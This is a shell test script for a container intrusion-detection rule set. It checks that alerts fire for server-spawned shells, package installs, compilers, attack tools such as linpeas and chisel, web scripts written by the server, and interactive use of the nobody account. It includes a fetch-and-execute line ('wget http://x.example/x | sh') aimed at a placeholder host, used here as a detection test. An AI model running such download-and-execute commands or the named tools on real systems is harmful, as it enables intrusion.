# The rules of intrusion.yaml.
source "$(dirname "$0")/lib.sh"
need_live
make_container
add_program php-fpm ': >"$1"'
add_programs apt gcc linpeas.sh chisel
for name in nginx worker; do add_program $name '/bin/sh -c true'; done
mkdir -p "$scratch/image/var/www"
cp "$HELPERS/provoke" "$scratch/image/bin/"
as_nobody='/bin/provoke as-nobody'
echo 'nobody:x:65534:65534:nobody:/:/bin/false' >>"$scratch/image/etc/passwd"

extra_capability=CAP_SETUID in_container '/bin/nginx; /bin/apt install x; /bin/gcc x.c; /bin/linpeas.sh; /bin/chisel client
  /bin/sh -c "true wget http://x.example/x | sh"; /bin/php-fpm /var/www/x.php
  true'
expect_alert "Shell started by a server" 'parent=nginx'
expect_alert "Package manager in container" 'apt install x'
expect_alert "Compiler in container" 'gcc x.c'
expect_alert "Attack tool started" 'linpeas.sh'
expect_alert "Relay or tunnel started" 'chisel client'
expect_alert "Download executed" 'wget http://x.example/x | sh'
expect_alert "Web script written by a web server" 'file=/var/www/x.php'

in_container '/bin/worker; /bin/sh -c "true wget http://x.example/x >/tmp/x"; /bin/php-fpm /var/www/x.png
  /bin/touch /var/www/y.php; true'
expect_no_alerts "Shell started by a server" "Package manager in container" "Compiler in container" \
  "Attack tool started" "Relay or tunnel started" "Download executed" "Web script written by a web server"

# With a terminal, as an account that nobody logs in as.
extra_capability=CAP_SETUID in_container terminal "$as_nobody /bin/ls; /bin/sleep 1; true" # its accounts are read while it lives
expect_alert "Account of the system used interactively" 'user=nobody'
extra_capability=CAP_SETUID in_container "$as_nobody /bin/ls; /bin/sleep 1; true"
expect_no_alerts "Account of the system used interactively"
done_testing
